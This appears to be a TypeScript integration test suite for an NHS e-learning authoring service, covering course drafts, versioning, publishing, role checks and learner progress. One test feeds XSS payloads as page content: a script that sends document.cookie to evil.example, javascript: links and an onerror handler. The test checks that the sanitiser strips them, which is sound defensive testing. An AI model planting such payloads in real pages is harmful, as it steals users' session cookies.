import { Role } from '@dasv/auth';
import { countRows, createTestApp, TestApp } from '@dasv/testing';

const SLUG = 'understanding-sexual-misconduct';
const LONDON_TRUST = 'RJ1';
const MANCHESTER_TRUST = 'R0A';

const DRAFT = `id slug number status title passMarkPercent assessmentSize updatedAt
  modules { id position title pages { id position title bodyMarkdown bodyHtml knowledgeChecks { id position kind prompt feedback options { id label correct } } } }
  questionBank { id position kind prompt moduleId options { id label correct } }
  problems { field message itemId }`;
const VERSIONS = `query($slug: String!) { courseVersions(slug: $slug) { id number status title publishedAt learners } }`;
const COURSE_DRAFT = `query($slug: String!) { courseDraft(slug: $slug) { ${DRAFT} } }`;
const CREATE = `mutation($slug: String!) { createCourseDraft(slug: $slug) { ${DRAFT} } }`;
const SETTINGS = `mutation($i: UpdateCourseDraftSettingsInput!) { updateCourseDraftSettings(input: $i) { ${DRAFT} } }`;
const ADD_MODULE = `mutation($i: AddCourseModuleInput!) { addCourseModule(input: $i) { ${DRAFT} } }`;
const UPDATE_MODULE = `mutation($i: UpdateCourseModuleInput!) { updateCourseModule(input: $i) { ${DRAFT} } }`;
const REMOVE_MODULE = `mutation($i: DraftItemInput!) { removeCourseModule(input: $i) { ${DRAFT} } }`;
const ADD_PAGE = `mutation($i: AddCoursePageInput!) { addCoursePage(input: $i) { ${DRAFT} } }`;
const UPDATE_PAGE = `mutation($i: UpdateCoursePageInput!) { updateCoursePage(input: $i) { ${DRAFT} } }`;
const REMOVE_PAGE = `mutation($i: DraftItemInput!) { removeCoursePage(input: $i) { ${DRAFT} } }`;
const ADD_CHECK = `mutation($i: AddKnowledgeCheckInput!) { addKnowledgeCheck(input: $i) { ${DRAFT} } }`;
const UPDATE_CHECK = `mutation($i: UpdateKnowledgeCheckInput!) { updateKnowledgeCheck(input: $i) { ${DRAFT} } }`;
const ADD_QUESTION = `mutation($i: AddAssessmentQuestionInput!) { addAssessmentQuestion(input: $i) { ${DRAFT} } }`;
const UPDATE_QUESTION = `mutation($i: UpdateAssessmentQuestionInput!) { updateAssessmentQuestion(input: $i) { ${DRAFT} } }`;
const REMOVE_QUESTION = `mutation($i: DraftItemInput!) { removeAssessmentQuestion(input: $i) { ${DRAFT} } }`;
const PUBLISH = `mutation($i: DraftVersionInput!) { publishCourseDraft(input: $i) { id number status publishedAt learners } }`;

const LEARNER_COURSE = `versionNumber passMarkPercent modules { id position title pages { id title bodyHtml knowledgeChecks { id options { id } } } }`;
const COURSE = `query($slug: String!) { course(slug: $slug) { ${LEARNER_COURSE} } }`;
const START = `mutation($slug: String!) { startCourse(slug: $slug) { enrolmentId course { ${LEARNER_COURSE} } } }`;
const PROGRESS = `query($slug: String!) { myCourseProgress(slug: $slug) { completedAt pagesCompleted totalPages course { ${LEARNER_COURSE} } } }`;
const SAVE = `mutation($i: SaveCoursePageInput!) { saveCoursePage(input: $i) { nextPageId } }`;
const START_ASSESSMENT = `mutation($slug: String!) { startAssessment(slug: $slug) { id questions { id } } }`;
const SUBMIT = `mutation($i: SubmitAssessmentInput!) { submitAssessment(input: $i) { passed completedAt } }`;

type Agent = Parameters<TestApp['gql']>[0];
interface LearnerPage {
  id: string;
  title: string;
  bodyHtml: string;
  knowledgeChecks: Array<{ id: string; options: Array<{ id: string }> }>;
}
interface LearnerCourse {
  versionNumber: number;
  passMarkPercent: number;
  modules: Array<{ id: string; position: number; title: string; pages: LearnerPage[] }>;
}
interface Draft {
  id: string;
  number: number;
  status: string;
  passMarkPercent: number;
  assessmentSize: number;
  updatedAt: string;
  modules: Array<{
    id: string;
    position: number;
    title: string;
    pages: Array<{ id: string; title: string; bodyMarkdown: string; bodyHtml: string; knowledgeChecks: Array<{ id: string }> }>;
  }>;
  questionBank: Array<{ id: string; moduleId: string | null }>;
  problems: Array<{ field: string; message: string; itemId: string | null }>;
}

/** Markup differences that change nothing a reader sees. */
const normalised = (html: string) =>
  html
    .replace(/>\s+</g, '><')
    .replace(/&#39;/g, "'")
    .replace(/&quot;/g, '"')
    .trim();

describe('e-learning authoring: drafts, publishing and learners pinned to their version', () => {
  let app: TestApp;
  let author: Agent;

  beforeAll(async () => {
    app = await createTestApp({ now: new Date('2026-03-02T09:00:00Z') });
    ({ agent: author } = await app.signedIn({ odsCode: 'X24', name: 'Nadia National', roles: [{ role: Role.NATIONAL_ADMIN }] }));
  });
  afterAll(() => app.close());

  /** Runs a mutation as the author and returns the draft it answers with, failing on any error. */
  async function edit(query: string, input: Record<string, unknown>): Promise<Draft> {
    const result = await app.gql(author, query, { i: { slug: SLUG, ...input } });
    expect(result.errors).toBeUndefined();
    return Object.values(result.data!)[0] as Draft;
  }

  async function learner(odsCode: string): Promise<Agent> {
    return (await app.signedIn({ odsCode, roles: [{ role: Role.LEARNER }] })).agent;
  }

  async function readPages(agent: Agent, pages: LearnerPage[]): Promise<void> {
    for (const page of pages) {
      const answers = page.knowledgeChecks.map((c) => ({ checkId: c.id, optionIds: [c.options[0].id] }));
      const saved = await app.gql(agent, SAVE, { i: { slug: SLUG, pageId: page.id, answers, timeSpentSeconds: 20 } });
      expect(saved.errors).toBeUndefined();
    }
  }

  /** Answers every drawn question with the key of the version the question belongs to. */
  async function passAssessment(agent: Agent): Promise<string> {
    const attempt = await app.gql(agent, START_ASSESSMENT, { slug: SLUG });
    expect(attempt.errors).toBeUndefined();
    const ids = attempt.data!.startAssessment.questions.map((q: { id: string }) => q.id);
    const keys: Array<{ id: string; options: Array<{ id: string; correct: boolean }> }> = await app.dataSource.query(
      `SELECT id, options FROM assessment_question WHERE id = ANY($1)`,
      [ids],
    );
    const answers = keys.map((k) => ({ questionId: k.id, optionIds: k.options.filter((o) => o.correct).map((o) => o.id) }));
    const result = await app.gql(agent, SUBMIT, { i: { attemptId: attempt.data!.startAssessment.id, answers } });
    expect(result.errors).toBeUndefined();
    expect(result.data!.submitAssessment.passed).toBe(true);
    return result.data!.submitAssessment.completedAt;
  }

  const completedOf = async (odsCode: string) =>
    (
      await app.dataSource.query(
        `SELECT s.started, s.completed FROM organisation_course_stats s JOIN organisation o ON o.id = s.organisation_id JOIN course c ON c.id = s.course_id
          WHERE o.ods_code = $1 AND c.slug = $2`,
        [odsCode, SLUG],
      )
    )[0];

  it('refuses everyone but national admins, whatever they administer, and writes nothing', async () => {
    const callers = [
      { odsCode: 'Y56', roles: [{ role: Role.REGIONAL_ADMIN }] },
      { odsCode: 'QKK', roles: [{ role: Role.ICB_ADMIN }] },
      { odsCode: LONDON_TRUST, roles: [{ role: Role.ORG_ADMIN }] },
      { odsCode: LONDON_TRUST, roles: [{ role: Role.DASV_LEAD }, { role: Role.LEARNER }] },
    ];
    for (const spec of callers) {
      const { agent } = await app.signedIn(spec);
      for (const [query, variables] of [
        [VERSIONS, { slug: SLUG }],
        [COURSE_DRAFT, { slug: SLUG }],
        [CREATE, { slug: SLUG }],
        [PUBLISH, { i: { slug: SLUG, version: 2 } }],
        [ADD_MODULE, { i: { slug: SLUG, version: 2, title: 'Sneaky' } }],
      ] as const) {
        const result = await app.gql(agent, query, variables);
        expect({ role: spec.roles[0].role, code: result.errors?.[0].extensions?.code }).toEqual({ role: spec.roles[0].role, code: 'FORBIDDEN' });
      }
    }
    expect((await app.gql(app.client(), VERSIONS, { slug: SLUG })).errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
    expect(await countRows(app.dataSource, 'course_version')).toBe(1);
    expect(await countRows(app.dataSource, 'course_draft')).toBe(0);
  });

  it('publishes version 2 while a learner is part-way through version 1: each finishes on their own version and both are counted', async () => {
    // A London learner starts on version 1 and stops after three pages.
    const first = await learner(LONDON_TRUST);
    const started = await app.gql(first, START, { slug: SLUG });
    expect(started.errors).toBeUndefined();
    const v1: LearnerCourse = started.data!.startCourse.course;
    expect(v1.versionNumber).toBe(1);
    const v1Pages = v1.modules.flatMap((m) => m.pages);
    await readPages(first, v1Pages.slice(0, 3));

    // Two authors starting the next version at once get one draft between them.
    const attempts = await Promise.all([app.gql(author, CREATE, { slug: SLUG }), app.gql(author, CREATE, { slug: SLUG })]);
    const created = attempts.find((a) => !a.errors)!;
    expect(attempts.filter((a) => a.errors?.[0].extensions?.reason === 'ELEARNING_DRAFT_EXISTS')).toHaveLength(1);
    expect(await countRows(app.dataSource, 'course_version', `status = 'DRAFT'`)).toBe(1);
    // The draft starts as a faithful copy of version 1, Markdown and all.
    let draft: Draft = created.data!.createCourseDraft;
    expect(draft).toMatchObject({ number: 2, status: 'DRAFT', passMarkPercent: 80, assessmentSize: 10, problems: [] });
    expect(draft.modules.map((m) => m.title)).toEqual(v1.modules.map((m) => m.title));
    expect(draft.modules.map((m) => m.pages.map((p) => p.title))).toEqual(v1.modules.map((m) => m.pages.map((p) => p.title)));
    draft.modules.flatMap((m) => m.pages).forEach((page, i) => expect(normalised(page.bodyHtml)).toBe(normalised(v1Pages[i].bodyHtml)));
    expect(draft.modules.flatMap((m) => m.pages).every((p) => p.bodyMarkdown.length > 0)).toBe(true);
    expect(draft.questionBank).toHaveLength(await countRows(app.dataSource, 'assessment_question'));
    // Bank questions point at the draft's copies of their modules, never at version 1's.
    const draftModuleIds = new Set(draft.modules.map((m) => m.id));
    expect(draft.questionBank.every((q) => q.moduleId && draftModuleIds.has(q.moduleId))).toBe(true);
    expect(draft.modules.some((m) => v1.modules.some((old) => old.id === m.id))).toBe(false);

    const second = await app.gql(author, CREATE, { slug: SLUG });
    expect(second.errors?.[0].extensions).toMatchObject({ code: 'CONFLICT', reason: 'ELEARNING_DRAFT_EXISTS' });

    // Edit it: settings, a renamed and moved module, a rewritten page, a new page with a check, a new bank question.
    draft = await edit(SETTINGS, { version: 2, passMarkPercent: 70, title: 'Understanding sexual misconduct in the workplace (2026)' });
    expect(draft.passMarkPercent).toBe(70);
    const [m1, m2] = draft.modules;
    await edit(UPDATE_MODULE, { version: 2, moduleId: m1.id, title: 'What sexual misconduct means' });
    await edit(UPDATE_PAGE, {
      version: 2,
      pageId: m1.pages[0].id,
      title: 'Why this matters to all of us',
      bodyMarkdown:
        'Everyone has the right to be **safe at work**.\n\n## Where to start\n\n- Read the [Sexual Safety Charter](https://www.england.nhs.uk/long-read/sexual-safety-in-healthcare-organisational-charter/)\n- Call 0808 500 2222',
    });
    draft = await edit(ADD_PAGE, {
      version: 2,
      moduleId: m2.id,
      position: 1,
      title: 'New in 2026',
      bodyMarkdown: 'Reporting is now open to _everyone_ on the staff app.',
    });
    const newPage = draft.modules[1].pages[0];
    expect(newPage).toMatchObject({ title: 'New in 2026', bodyHtml: '<p>Reporting is now open to <em>everyone</em> on the staff app.</p>' });
    draft = await edit(ADD_CHECK, {
      version: 2,
      pageId: newPage.id,
      kind: 'MULTIPLE',
      prompt: 'Who can report?',
      options: [
        { label: 'Any member of staff', correct: true },
        { label: 'Only managers', correct: false },
        { label: 'A bystander who saw it', correct: true },
      ],
      feedback: 'Anyone who experiences or witnesses sexual misconduct can report it.',
    });
    expect(draft.modules[1].pages[0].knowledgeChecks).toHaveLength(1);
    draft = await edit(ADD_QUESTION, {
      version: 2,
      moduleId: draft.modules[1].id,
      kind: 'SINGLE',
      prompt: 'Where can staff report sexual misconduct from 2026?',
      options: [
        { label: 'On the staff app', correct: true },
        { label: 'Nowhere', correct: false },
      ],
    });
    const fourth = draft.modules[3];
    draft = await edit(UPDATE_MODULE, { version: 2, moduleId: fourth.id, position: 3 });
    expect(draft.modules[2]).toMatchObject({ id: fourth.id, position: 3 });
    expect(draft.problems).toEqual([]);

    // Until it is published, learners see version 1 and nothing of the draft.
    const meanwhile = await app.gql(await learner(MANCHESTER_TRUST), COURSE, { slug: SLUG });
    expect(meanwhile.data!.course.versionNumber).toBe(1);
    expect(JSON.stringify(meanwhile.data)).not.toContain('New in 2026');

    const published = await app.gql(author, PUBLISH, { i: { slug: SLUG, version: 2 } });
    expect(published.errors).toBeUndefined();
    expect(published.data!.publishCourseDraft).toMatchObject({
      id: draft.id,
      number: 2,
      status: 'PUBLISHED',
      publishedAt: '2026-03-02T09:00:00.000Z',
      learners: 0,
    });
    const versions = await app.gql(author, VERSIONS, { slug: SLUG });
    expect(versions.data!.courseVersions).toMatchObject([
      { number: 2, status: 'PUBLISHED', learners: 0, title: 'Understanding sexual misconduct in the workplace (2026)' },
      { number: 1, status: 'RETIRED', learners: 1 },
    ]);
    expect((await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft).toBeNull();
    expect(await countRows(app.dataSource, 'course_draft')).toBe(0);
    const audited = await app.dataSource.query(`SELECT action FROM audit_event WHERE entity_id = $1 ORDER BY occurred_at, action`, [draft.id]);
    expect(audited.map((a: { action: string }) => a.action)).toEqual(
      expect.arrayContaining([
        'course_version.draft_created',
        'course_draft.settings_updated',
        'course_draft.page_added',
        'course_draft.knowledge_check_added',
        'course_draft.bank_question_added',
        'course_version.published',
      ]),
    );

    // The first learner carries on where they were, on version 1, and completes it.
    const resumed = (await app.gql(first, PROGRESS, { slug: SLUG })).data!.myCourseProgress;
    expect(resumed).toMatchObject({ pagesCompleted: 3, totalPages: v1Pages.length, course: { versionNumber: 1, passMarkPercent: 80 } });
    expect(resumed.course.modules[0].title).toBe(v1.modules[0].title);
    await readPages(first, v1Pages.slice(3));
    app.clock.advance(60_000);
    expect(await passAssessment(first)).toBeTruthy();

    // A new learner, elsewhere, starts on version 2 and sees the edits.
    const next = await learner(MANCHESTER_TRUST);
    const v2: LearnerCourse = (await app.gql(next, START, { slug: SLUG })).data!.startCourse.course;
    expect(v2).toMatchObject({ versionNumber: 2, passMarkPercent: 70 });
    expect(v2.modules[0].title).toBe('What sexual misconduct means');
    expect(v2.modules[0].pages[0].title).toBe('Why this matters to all of us');
    expect(normalised(v2.modules[0].pages[0].bodyHtml)).toBe(
      '<p>Everyone has the right to be <strong>safe at work</strong>.</p><h2>Where to start</h2><ul><li>Read the <a href="https://www.england.nhs.uk/long-read/sexual-safety-in-healthcare-organisational-charter/">Sexual Safety Charter</a></li><li>Call 0808 500 2222</li></ul>',
    );
    expect(v2.modules[1].pages[0]).toMatchObject({ id: newPage.id, title: 'New in 2026' });
    expect(v2.modules[2].title).toBe(fourth.title);
    expect(v2.modules[1].pages[0].knowledgeChecks[0].options).toHaveLength(3);
    await readPages(
      next,
      v2.modules.flatMap((m) => m.pages),
    );
    await passAssessment(next);

    // Each completion records the version it was made on, and each organisation counts its learner.
    const completions = await app.dataSource.query(
      `SELECT o.ods_code, v.number FROM learner_completion lc JOIN organisation o ON o.id = lc.organisation_id JOIN course_version v ON v.id = lc.version_id ORDER BY v.number`,
    );
    expect(completions).toEqual([
      { ods_code: LONDON_TRUST, number: 1 },
      { ods_code: MANCHESTER_TRUST, number: 2 },
    ]);
    expect(await completedOf(LONDON_TRUST)).toEqual({ started: 1, completed: 1 });
    expect(await completedOf(MANCHESTER_TRUST)).toEqual({ started: 1, completed: 1 });
    const after = await app.gql(author, VERSIONS, { slug: SLUG });
    expect(after.data!.courseVersions.map((v: { learners: number }) => v.learners)).toEqual([1, 1]);
  });

  it('refuses to publish an invalid draft, listing every problem, and changes nothing', async () => {
    let draft: Draft = (await app.gql(author, CREATE, { slug: SLUG })).data!.createCourseDraft;
    expect(draft.number).toBe(3);
    draft = await edit(ADD_MODULE, { version: 3, title: 'An empty module' });
    const empty = draft.modules[draft.modules.length - 1];
    // A single-choice bank question with two right answers, about the module that is about to go.
    draft = await edit(ADD_QUESTION, {
      version: 3,
      moduleId: draft.modules[0].id,
      kind: 'SINGLE',
      prompt: 'Which is right?',
      options: [
        { label: 'This', correct: true },
        { label: 'That', correct: true },
      ],
    });
    const ambiguous = draft.questionBank[draft.questionBank.length - 1];
    draft = await edit(REMOVE_MODULE, { version: 3, id: draft.modules[0].id });
    expect(draft.questionBank.filter((q) => q.moduleId === null).length).toBeGreaterThan(0);
    // Edits at the same moment queue on the draft: neither is lost.
    const parallel = await Promise.all(
      ['In parallel 1', 'In parallel 2'].map((title) => app.gql(author, ADD_MODULE, { i: { slug: SLUG, version: 3, title } })),
    );
    expect(parallel.map((r) => r.errors)).toEqual([undefined, undefined]);
    draft = (await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft;
    for (const title of ['In parallel 1', 'In parallel 2'])
      draft = await edit(REMOVE_MODULE, { version: 3, id: draft.modules.find((m) => m.title === title)!.id });
    draft = await edit(SETTINGS, { version: 3, assessmentSize: 100 });
    const checked = draft.modules[0].pages.find((p) => p.knowledgeChecks.length > 0)!;
    draft = await edit(UPDATE_CHECK, {
      version: 3,
      checkId: checked.knowledgeChecks[0].id,
      kind: 'MULTIPLE',
      prompt: 'Nothing is right',
      options: [{ label: 'Only', correct: false }],
      feedback: 'None.',
    });
    draft = await edit(UPDATE_PAGE, { version: 3, pageId: draft.modules[0].pages[0].id, bodyMarkdown: 'A picture: ![](https://assets.nhs.uk/picture.png)' });

    const bankPosition = draft.questionBank.findIndex((q) => q.id === ambiguous.id) + 1;
    const emptyPosition = draft.modules.findIndex((m) => m.id === empty.id) + 1;
    const checkPage = draft.modules[0].pages.findIndex((p) => p.id === checked.id) + 1;
    expect(draft.problems.map((p) => p.field)).toEqual(
      expect.arrayContaining([
        `modules.${emptyPosition}.pages`,
        'modules.1.pages.1.body',
        `modules.1.pages.${checkPage}.checks.1.options`,
        `questionBank.${bankPosition}.options`,
        `questionBank.${bankPosition}.module`,
        'questionBank',
      ]),
    );

    const before = await app.dataSource.query(`SELECT number, status FROM course_version ORDER BY number`);
    const contentRows = await countRows(app.dataSource, 'course_page');
    const refused = await app.gql(author, PUBLISH, { i: { slug: SLUG, version: 3 } });
    expect(refused.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'ELEARNING_DRAFT_INVALID' });
    const fields = refused.errors![0].extensions!.fields!;
    expect(fields[`modules.${emptyPosition}.pages`]).toEqual([`Module ${emptyPosition}: add at least one page`]);
    expect(fields['modules.1.pages.1.body']).toEqual(['Module 1, page 1: Give every image alternative text: ![what the image shows](https://…)']);
    expect(fields[`modules.1.pages.${checkPage}.checks.1.options`]).toEqual([
      `Module 1, page ${checkPage}, knowledge check 1: give at least two answers to choose from`,
      `Module 1, page ${checkPage}, knowledge check 1: mark at least one answer correct`,
    ]);
    expect(fields[`questionBank.${bankPosition}.options`]).toEqual([
      `Bank question ${bankPosition}: mark exactly one answer correct, as it is a single-choice question`,
    ]);
    expect(fields[`questionBank.${bankPosition}.module`]).toEqual([`Bank question ${bankPosition}: choose the module that teaches its answer`]);
    expect(fields.questionBank[0]).toMatch(/^The question bank has \d+ questions: the assessment draws 100/);
    expect(await app.dataSource.query(`SELECT number, status FROM course_version ORDER BY number`)).toEqual(before);
    expect(await countRows(app.dataSource, 'course_page')).toBe(contentRows);
    expect((await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft.number).toBe(3);
    expect((await app.gql(await learner(LONDON_TRUST), COURSE, { slug: SLUG })).data!.course.versionNumber).toBe(2);
  });

  it('validates every edit, refuses items from elsewhere, and never edits a published or retired version', async () => {
    const draft = (await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft as Draft;
    const unchanged = await app.dataSource.query(`SELECT content, updated_at FROM course_draft`);

    const blank = await app.gql(author, ADD_PAGE, {
      i: { slug: SLUG, version: 3, moduleId: draft.modules[0].id, title: '   ', bodyMarkdown: 'x'.repeat(20_001) },
    });
    expect(blank.errors?.[0].extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      fields: { title: ['Enter a page title'], bodyMarkdown: ['A page must be 20,000 characters or fewer'] },
    });
    const badQuestion = await app.gql(author, ADD_QUESTION, {
      i: { slug: SLUG, version: 3, moduleId: 'not-a-uuid', kind: 'SINGLE', prompt: '', options: [{ label: '', correct: true }] },
    });
    expect(badQuestion.errors?.[0].extensions?.fields).toMatchObject({
      moduleId: ['Choose a module of this draft'],
      prompt: ['Enter the question'],
      'options.0.label': ['Enter the answer'],
    });
    const badPosition = await app.gql(author, UPDATE_MODULE, { i: { slug: SLUG, version: 3, moduleId: draft.modules[0].id, position: 99 } });
    expect(badPosition.errors?.[0].extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      reason: 'ELEARNING_POSITION_INVALID',
      fields: { position: [`Choose a position from 1 to ${draft.modules.length}`] },
    });

    // Ids of version 2's published rows are not items of the draft.
    const [publishedPage] = await app.dataSource.query(
      `SELECT p.id FROM course_page p JOIN course_module m ON m.id = p.module_id JOIN course_version v ON v.id = m.version_id WHERE v.number = 2 LIMIT 1`,
    );
    const elsewhere = await app.gql(author, REMOVE_PAGE, { i: { slug: SLUG, version: 3, id: publishedPage.id } });
    expect(elsewhere.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', reason: 'ELEARNING_DRAFT_ITEM_NOT_FOUND' });
    const noQuestion = await app.gql(author, REMOVE_QUESTION, { i: { slug: SLUG, version: 3, id: draft.modules[0].id } });
    expect(noQuestion.errors?.[0].extensions?.reason).toBe('ELEARNING_DRAFT_ITEM_NOT_FOUND');
    expect(await app.dataSource.query(`SELECT content, updated_at FROM course_draft`)).toEqual(unchanged);

    // Version 2 is published and version 1 retired: both refused, whatever the edit.
    for (const version of [1, 2]) {
      for (const [query, input] of [
        [UPDATE_PAGE, { pageId: publishedPage.id, title: 'Changed under learners’ feet' }],
        [SETTINGS, { passMarkPercent: 10 }],
        [ADD_MODULE, { title: 'Late addition' }],
        [
          UPDATE_QUESTION,
          { questionId: draft.questionBank[0].id, moduleId: draft.modules[0].id, kind: 'SINGLE', prompt: 'Q', options: [{ label: 'A', correct: true }] },
        ],
        [PUBLISH, {}],
      ] as const) {
        const result = await app.gql(author, query, { i: { slug: SLUG, version, ...input } });
        expect(result.errors?.[0].extensions).toMatchObject({ code: 'CONFLICT', reason: 'ELEARNING_VERSION_NOT_EDITABLE' });
      }
    }
    const missing = await app.gql(author, ADD_MODULE, { i: { slug: SLUG, version: 9, title: 'Nowhere' } });
    expect(missing.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', reason: 'ELEARNING_VERSION_NOT_FOUND' });
    const unknown = await app.gql(author, CREATE, { slug: 'no-such-course' });
    expect(unknown.errors?.[0].extensions).toMatchObject({ code: 'NOT_FOUND', reason: 'ELEARNING_COURSE_NOT_FOUND' });
    expect((await app.dataSource.query(`SELECT title, pass_mark_percent FROM course_version WHERE number = 2`))[0]).toEqual({
      title: 'Understanding sexual misconduct in the workplace (2026)',
      pass_mark_percent: 70,
    });
  });

  it('strips unsafe markup from what learners would see, and will not publish a page that needed it', async () => {
    let draft = (await app.gql(author, COURSE_DRAFT, { slug: SLUG })).data!.courseDraft as Draft;
    const page = draft.modules[0].pages[1];
    draft = await edit(UPDATE_PAGE, {
      version: 3,
      pageId: page.id,
      bodyMarkdown:
        'Read this.<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\n[Click here](javascript:alert(document.cookie)) <a href="javascript:alert(1)" onclick="alert(2)">or here</a> <img src=x onerror=alert(3)>',
    });
    const html = draft.modules[0].pages[1].bodyHtml;
    expect(html).not.toMatch(/script|javascript|onclick|onerror|<img|evil\.example/i);
    expect(html).toContain('Click here');
    expect(draft.problems.filter((p) => p.itemId === page.id).map((p) => p.message)).toEqual([
      'Module 1, page 2: Remove the HTML: write the page in Markdown only',
      'Module 1, page 2: Link “Click here” must be an https:, mailto: or tel: address',
    ]);
    const refused = await app.gql(author, PUBLISH, { i: { slug: SLUG, version: 3 } });
    expect(refused.errors?.[0].extensions?.fields?.['modules.1.pages.2.body']).toHaveLength(2);
    // No page any learner can reach holds anything but allowed markup.
    const stored: Array<{ body_html: string }> = await app.dataSource.query(`SELECT body_html FROM course_page`);
    for (const { body_html } of stored) expect(body_html).not.toMatch(/<script|javascript:|onerror|onclick/i);

    // Once the page is plain Markdown again, and the rest fixed, version 3 publishes.
    draft = await edit(UPDATE_PAGE, { version: 3, pageId: page.id, bodyMarkdown: 'Read this, then [contact Rape Crisis](https://rapecrisis.org.uk).' });
    draft = await edit(UPDATE_PAGE, {
      version: 3,
      pageId: draft.modules[0].pages[0].id,
      bodyMarkdown: 'A picture: ![A ward corridor](https://assets.nhs.uk/picture.png)',
    });
    const broken = draft.modules[0].pages.find((p) => p.knowledgeChecks.length > 0)!;
    draft = await edit(UPDATE_CHECK, {
      version: 3,
      checkId: broken.knowledgeChecks[0].id,
      kind: 'SINGLE',
      prompt: 'Is this right?',
      options: [
        { label: 'Yes', correct: true },
        { label: 'No', correct: false },
      ],
      feedback: 'It is.',
    });
    for (const question of draft.questionBank.filter((q) => q.moduleId === null)) draft = await edit(REMOVE_QUESTION, { version: 3, id: question.id });
    draft = await edit(REMOVE_MODULE, { version: 3, id: draft.modules[draft.modules.length - 1].id });
    draft = await edit(SETTINGS, { version: 3, assessmentSize: Math.min(10, draft.questionBank.length) });
    expect(draft.problems).toEqual([]);
    const published = await app.gql(author, PUBLISH, { i: { slug: SLUG, version: 3 } });
    expect(published.errors).toBeUndefined();
    const course: LearnerCourse = (await app.gql(await learner(LONDON_TRUST), COURSE, { slug: SLUG })).data!.course;
    expect(course.versionNumber).toBe(3);
    expect(normalised(course.modules[0].pages[1].bodyHtml)).toBe('<p>Read this, then <a href="https://rapecrisis.org.uk">contact Rape Crisis</a>.</p>');
    expect(course.modules[0].pages[0].bodyHtml).toContain('<img src="https://assets.nhs.uk/picture.png" alt="A ward corridor" />');
    expect(await app.dataSource.query(`SELECT number, status FROM course_version ORDER BY number`)).toEqual([
      { number: 1, status: 'RETIRED' },
      { number: 2, status: 'RETIRED' },
      { number: 3, status: 'PUBLISHED' },
    ]);
  });
});
